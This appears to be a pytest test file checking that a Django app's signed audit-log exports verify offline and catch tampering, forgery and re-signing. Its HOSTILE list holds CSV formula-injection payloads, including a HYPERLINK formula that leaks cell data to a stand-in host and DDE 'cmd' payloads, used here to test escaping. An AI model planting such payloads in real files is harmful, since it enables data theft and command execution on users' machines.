"""Compliance exports verify offline with the public key alone; tampering, forging and re-signing are caught."""

import base64
import csv
import hashlib
import hmac
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import transaction
from django.urls import reverse

from portfolio.accounts import services
from portfolio.accounts.actor import Actor
from portfolio.audit import chain, exportformat, signing
from portfolio.audit import services as audit
from portfolio.audit.exports import build_export, signing_keys
from portfolio.audit.filters import AuditFilter
from portfolio.audit.models import AuditEvent
from portfolio.audit.offline import report, verify_export
from portfolio.errors import Forbidden
from tests.conftest import actor_for

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def history(org, department):
    admin = actor_for(org["admin"])
    services.create_team(actor=admin, department=department, name="Search")
    services.create_team(
        actor=admin, department=department, name="Ranking", description='ümlaut, "quotes", a,b'
    )
    services.create_department(actor=admin, name="Finance", cost_center="CC-300")
    return org


def server_public_keys():
    return [key.public_key for key in signing_keys()]


def _export(history, fmt="jsonl", selection=None):
    return build_export(actor=actor_for(history["auditor"]), selection=selection or AuditFilter(), fmt=fmt)


def _rewrite(path: Path, name: str, transform) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {item: archive.read(item) for item in archive.namelist()}
    members[name] = transform(members[name])
    with zipfile.ZipFile(path, "w") as archive:
        for item, data in members.items():
            archive.writestr(item, data)


def _manifest(path: Path) -> dict:
    with zipfile.ZipFile(path) as archive:
        return json.loads(archive.read("manifest.json"))


def _write_public_key(path: Path, key=None) -> Path:
    path.write_text(signing.public_pem(key or settings.AUDIT_SIGNING_KEY.public_key()))
    return path


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_an_export_verifies_offline_with_the_public_key_and_is_itself_audited(history, fmt):
    export = _export(history, fmt)
    verdict = verify_export(export.path, server_public_keys())
    assert verdict.ok, verdict.problems
    assert verdict.count == export.manifest["count"] == 3
    head = AuditEvent.objects.get(sequence=3)
    assert (export.manifest["head_sequence"], export.manifest["head_hash"]) == (3, head.hash)
    assert export.manifest["algorithm"] == "Ed25519"
    assert export.manifest["key_id"] == signing.key_id(settings.AUDIT_SIGNING_KEY.public_key())
    logged = AuditEvent.objects.get(action="audit.export", actor_label="auditor")
    assert logged.after["key_id"] == export.manifest["key_id"] and logged.after["head_sequence"] == 3


def test_a_filtered_export_holds_only_the_selection(history):
    export = _export(history, selection=AuditFilter(action="team."))
    with zipfile.ZipFile(export.path) as archive:
        rows = [json.loads(line) for line in archive.read("events.jsonl").splitlines()]
    assert [row["action"] for row in rows] == ["team.create", "team.create"]
    assert verify_export(export.path, server_public_keys()).ok


def test_a_filtered_export_is_reported_as_one_whose_links_and_completeness_went_unchecked(history):
    """A filtered export read "Export verified" exactly like a complete one, though offline nothing shows
    whether an event matching its filters was left out."""
    filtered = report(
        verify_export(_export(history, selection=AuditFilter(action="team.")).path, server_public_keys())
    )
    assert filtered.startswith("Export verified: 2 events")
    assert "\nFiltered export (action=team.): its rows are genuine chain rows" in filtered
    assert (
        "the links between them and whether every event matching the filters is there were NOT checked"
        in filtered
    )
    for complete in (AuditFilter(), AuditFilter(since=AuditEvent.objects.get(sequence=2).occurred_at)):
        text = report(verify_export(_export(history, selection=complete).path, server_public_keys()))
        assert text.startswith("Export verified:") and "Filtered" not in text and "NOT checked" not in text


@pytest.mark.parametrize(
    "selection",
    [AuditFilter(action="department."), AuditFilter()],
    ids=["filtered: the next event not in the export", "everything"],
)
def test_a_row_rewritten_with_its_own_hash_recomputed_is_not_exported_or_signed(history, selection):
    """Who can switch off the append-only trigger rewrites event #3 and recomputes its hash: the row checks
    out alone, and a filtered export (or one ending there) carries no next event to break. The export
    checks every row against its neighbours in the database before it signs."""
    import tempfile

    from django.db import connection

    from portfolio.errors import Conflict

    audit.record(Actor.for_system("tests"), "team.update", object_type="test", object_id="4", after={})
    forged = AuditEvent.objects.get(sequence=3)
    fields = {**chain.fields_of(forged), "after": {**forged.after, "cost_center": "CC-999"}}
    with connection.cursor() as cursor:
        cursor.execute("ALTER TABLE audit_auditevent DISABLE TRIGGER audit_event_no_update_delete")
        cursor.execute(
            "UPDATE audit_auditevent SET after = %s::jsonb, hash = %s WHERE sequence = 3",
            [json.dumps(fields["after"]), chain.compute_hash(fields)],
        )
        cursor.execute("ALTER TABLE audit_auditevent ENABLE TRIGGER audit_event_no_update_delete")
    left = set(Path(tempfile.gettempdir()).glob("audit-export-*.zip"))
    with pytest.raises(Conflict, match=r"does not verify at event #[34] "):  # #4: the break is its link
        _export(history, selection=selection)
    assert set(Path(tempfile.gettempdir()).glob("audit-export-*.zip")) == left, "no file left behind"
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_a_filtered_exports_neighbour_lookups_do_not_grow_with_its_rows(history):
    """Every row of a filtered export has neighbours outside it, each looked up: per chunk, not per row."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries_for_export_of(rows: int) -> int:
        for number in range(rows):
            audit.record(Actor.for_system("tests"), "team.update", object_type="test", object_id=str(number))
            audit.record(
                Actor.for_system("tests"), "department.update", object_type="test", object_id=str(number)
            )
        with CaptureQueriesContext(connection) as captured:
            export = _export(history, selection=AuditFilter(action="team.update"))
        assert verify_export(export.path, server_public_keys()).ok
        return len(captured.captured_queries)

    assert queries_for_export_of(5) == queries_for_export_of(40)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_an_edited_row_fails_verification_even_with_a_recomputed_file_hash(history, fmt):
    export = _export(history, fmt)
    _rewrite(export.path, f"events.{fmt}", lambda data: data.replace(b"Search", b"Secret"))
    verdict = verify_export(export.path, server_public_keys())
    assert not verdict.ok
    assert any("sha256" in problem for problem in verdict.problems)
    assert any("event sequence 1" in problem for problem in verdict.problems)


@pytest.mark.parametrize("forged", ["events.csv", "events.jsonl"], ids=["another-file", "a-second-copy"])
def test_an_export_with_a_file_beside_its_signed_events_fails(history, forged):
    """A forged events.csv beside the signed events.jsonl, or a second events.jsonl (Python reads the last
    of two members of one name, other tools the first), passed as "Export verified"."""
    import warnings

    export = _export(history)
    with zipfile.ZipFile(export.path) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name it is asked to write
        with zipfile.ZipFile(export.path, "w") as archive:
            archive.writestr(forged, b'{"sequence": 1, "action": "forged"}\n')  # first: what most tools read
            for name, data in members:
                archive.writestr(name, data)
    verdict = verify_export(export.path, server_public_keys())
    assert not verdict.ok and forged in " ".join(verdict.problems), verdict.problems


def test_an_export_whose_audit_row_fails_leaves_no_file_behind(history, monkeypatch, tmp_path):
    """Only a failure while writing removed the file: an export whose own audit row then failed left the
    whole trail, unaudited, in the temporary folder."""
    import tempfile

    from django.db import DatabaseError

    from portfolio.audit import services as audit_services

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def failing(actor, action, *args, **kwargs):
        raise DatabaseError("the audit table is unwritable")

    monkeypatch.setattr(audit_services, "record", failing)
    with pytest.raises(DatabaseError):
        _export(history)
    assert list(tmp_path.iterdir()) == []


def test_an_altered_manifest_fails_its_signature(history):
    export = _export(history)

    def shrink(data: bytes) -> bytes:
        manifest = json.loads(data)
        manifest["count"] = 2
        return json.dumps(manifest).encode()

    _rewrite(export.path, "manifest.json", shrink)
    verdict = verify_export(export.path, server_public_keys())
    assert any("signature does not match" in problem for problem in verdict.problems)


def _forge_a_rewritten_history(path: Path, sign_manifest) -> None:
    """What a forger with the export in hand does: edit an event, rehash it and every event after it, fix
    the file's sha256 and the manifest's head, then sign the manifest with whatever they hold."""
    with zipfile.ZipFile(path) as archive:
        rows = [json.loads(line) for line in archive.read("events.jsonl").splitlines()]
        manifest = json.loads(archive.read("manifest.json"))
    previous = chain.GENESIS_HASH
    for row in rows:
        if row["sequence"] == 2:
            row["object_repr"] = "Ranking (never existed)"
        row["prev_hash"] = previous
        row["hash"] = previous = chain.compute_hash(row)
    events = "".join(chain.canonical_json(row) + "\n" for row in rows).encode()
    manifest.update(events_sha256=hashlib.sha256(events).hexdigest(), head_hash=previous)
    sign_manifest(manifest)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("events.jsonl", events)
        archive.writestr("manifest.json", json.dumps(manifest))


def test_a_rewritten_export_re_signed_with_another_key_fails(history):
    export = _export(history)
    forger = Ed25519PrivateKey.generate()

    def claim_the_servers_key(manifest):
        manifest["signature"] = signing.sign(exportformat.signed_payload(manifest), forger)

    _forge_a_rewritten_history(export.path, claim_the_servers_key)
    verdict = verify_export(export.path, server_public_keys())
    assert not verdict.ok
    assert verdict.problems == [
        "manifest signature does not match: the manifest was altered or signed with another key"
    ]

    def name_the_forgers_key(manifest):
        manifest["key_id"] = signing.key_id(forger.public_key())
        manifest["signature"] = signing.sign(exportformat.signed_payload(manifest), forger)

    _forge_a_rewritten_history(export.path, name_the_forgers_key)
    verdict = verify_export(export.path, server_public_keys())
    assert not verdict.ok and "not among the public keys given" in verdict.problems[0]


def test_a_manifest_signed_with_the_old_hmac_scheme_fails(history):
    """Under HMAC anyone holding the verification key could sign: such a manifest must prove nothing now."""
    export = _export(history)
    old_key = hmac.new(settings.SECRET_KEY.encode(), b"audit-export", hashlib.sha256).digest()

    def hmac_sign(manifest):
        manifest.update(version=1, algorithm="HMAC-SHA256")
        manifest.pop("key_id")
        unsigned = {k: v for k, v in manifest.items() if k != "signature"}
        manifest["signature"] = hmac.new(
            old_key, chain.canonical_json(unsigned).encode(), hashlib.sha256
        ).hexdigest()

    _forge_a_rewritten_history(export.path, hmac_sign)
    verdict = verify_export(export.path, server_public_keys())
    assert not verdict.ok
    assert "not Ed25519" in verdict.problems[0] and "forge" in verdict.problems[0]


def test_the_offline_verifier_needs_only_the_public_key_no_settings_no_database(history, tmp_path):
    export = _export(history, "csv")
    public_key = _write_public_key(tmp_path / "audit.pub")
    untouched = tmp_path / "no-data-dir"
    env = {
        "PATH": os.environ["PATH"],
        "PYTHONPATH": str(ROOT),
        # Any use of Django settings (and so of a database or the private key) would fail loudly.
        "DJANGO_SETTINGS_MODULE": "settings_that_do_not_exist",
        "PORTFOLIO_DATA_DIR": str(untouched),
    }
    command = [
        sys.executable,
        "-m",
        "portfolio.audit.offline",
        str(export.path),
        "--public-key-file",
        str(public_key),
    ]
    result = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert "Export verified: 3 events" in result.stdout and export.manifest["key_id"] in result.stdout
    assert f"sequence 3, hash {export.manifest['head_hash']}" in result.stdout
    assert not untouched.exists()

    other = _write_public_key(tmp_path / "other.pub", Ed25519PrivateKey.generate().public_key())
    command[-1] = str(other)
    refused = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert refused.returncode == 1 and "not among the public keys given" in refused.stderr


def test_the_management_command_verifies_with_a_public_key_file_and_rejects(history, tmp_path, capsys):
    export = _export(history, "csv")
    public_key = _write_public_key(tmp_path / "audit.pub")
    call_command("audit_verify_export", str(export.path), "--public-key-file", str(public_key))
    assert "Export verified: 3 events" in capsys.readouterr().out
    _rewrite(export.path, "events.csv", lambda data: data.replace(b"Ranking", b"Rankinh"))
    with pytest.raises(CommandError, match="does NOT verify"):
        call_command("audit_verify_export", str(export.path))


def test_the_retired_key_file_flag_is_refused_with_a_reason(history, tmp_path):
    export = _export(history)
    secret = tmp_path / "hmac-key"
    secret.write_bytes(b"the-old-shared-secret")
    with pytest.raises(CommandError, match="--public-key-file"):
        call_command("audit_verify_export", str(export.path), "--key-file", str(secret))


def test_exports_signed_before_a_key_rotation_still_verify(history, settings):
    old_key, new_key = settings.AUDIT_SIGNING_KEY, Ed25519PrivateKey.generate()
    before = _export(history)
    settings.AUDIT_SIGNING_KEY = new_key
    settings.AUDIT_PREVIOUS_PUBLIC_KEYS = [old_key.public_key()]
    after = _export(history)
    assert [(key.key_id, key.status) for key in signing_keys()] == [
        (signing.key_id(new_key.public_key()), "current"),
        (signing.key_id(old_key.public_key()), "retired"),
    ]
    assert after.manifest["key_id"] == signing.key_id(new_key.public_key()) != before.manifest["key_id"]
    call_command("audit_verify_export", str(before.path))  # the server's published keys, the retired one too
    call_command("audit_verify_export", str(after.path))
    settings.AUDIT_PREVIOUS_PUBLIC_KEYS = []  # a retired key dropped from the list: its exports no longer verify
    with pytest.raises(CommandError, match="not among the public keys given"):
        call_command("audit_verify_export", str(before.path))


def test_only_auditors_and_admins_may_export(history):
    with pytest.raises(Forbidden):
        build_export(actor=actor_for(history["owner"]), selection=AuditFilter(), fmt="jsonl")


# --- Publishing the public key ------------------------------------------------------------------------
def test_the_api_publishes_the_public_key_that_verifies_exports(client, history, tmp_path):
    export = _export(history)
    client.force_login(history["auditor"])
    response = client.get("/api/v1/audit/signing-keys")
    assert response.status_code == 200
    [published] = response.json()
    assert (published["key_id"], published["status"], published["algorithm"]) == (
        export.manifest["key_id"],
        "current",
        "Ed25519",
    )
    assert "PRIVATE" not in response.content.decode()
    raw = base64.b64decode(published["public_key_base64"])
    assert hashlib.sha256(raw).hexdigest() == published["fingerprint_sha256"]
    assert verify_export(export.path, [signing.load_public_key(published["public_key_pem"])]).ok


def test_signing_keys_are_for_auditors_not_team_members(client, org):
    client.force_login(org["owner"])
    assert client.get("/api/v1/audit/signing-keys").status_code == 403


def test_the_audit_page_shows_the_public_key_for_download(client, history):
    client.force_login(history["auditor"])
    key_id = signing.key_id(settings.AUDIT_SIGNING_KEY.public_key())
    page = client.get(reverse("audit-log")).content.decode()
    assert key_id in page and "BEGIN PUBLIC KEY" in page and "PRIVATE" not in page
    [link] = re.findall(r'href="data:application/x-pem-file;base64,([^"]+)" download="([^"]+)"', page)
    assert link[1] == f"audit-signing-key-{key_id}.pub.pem"
    assert signing.key_id(signing.load_public_key(base64.b64decode(link[0]).decode())) == key_id


# --- CSV cells typed before sign-in -------------------------------------------------------------------
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'=already quoted",
    "plain name",
]


def test_csv_cells_typed_before_sign_in_cannot_run_as_formulas_and_still_verify(org, client):
    for text in HOSTILE:
        client.post(reverse("login"), {"username": text, "password": "wrong"}, HTTP_USER_AGENT=text)
    assert AuditEvent.objects.filter(action="user.login_failed").count() == len(HOSTILE)
    export = build_export(actor=actor_for(org["auditor"]), selection=AuditFilter(action="user."), fmt="csv")
    with zipfile.ZipFile(export.path) as archive:
        cells = [
            cell
            for row in csv.reader(io.StringIO(archive.read("events.csv").decode(), newline=""))
            for cell in row
        ]
    formula_starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
    assert [cell for cell in cells if cell.startswith(formula_starts)] == []
    assert f"'{HOSTILE[0]}" in cells and "'''=already quoted" not in cells and "''=already quoted" in cells
    assert verify_export(export.path, server_public_keys()).ok
    assert "' in front" in export.manifest["csv_cells"]


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''", "-", "a=b", "'plain"])
def test_csv_escaping_gives_every_value_back(text):
    assert exportformat.unescape_cell(exportformat.escape_cell(text)) == text


def test_an_escaped_csv_row_reads_back_to_the_hashed_json_form(system_actor):
    actor = Actor(ip="10.0.0.1", user_agent="@evil", request_id="-r")
    with transaction.atomic():
        event = audit.record(
            actor, "team.update", object_type="t", object_id="=1", object_repr="+2", after=-5
        )
    row = chain.fields_of(event) | {"hash": event.hash}
    assert exportformat.row_from_csv(exportformat.csv_cells(row)) == row
    assert chain.compute_hash(exportformat.row_from_csv(exportformat.csv_cells(row))) == event.hash
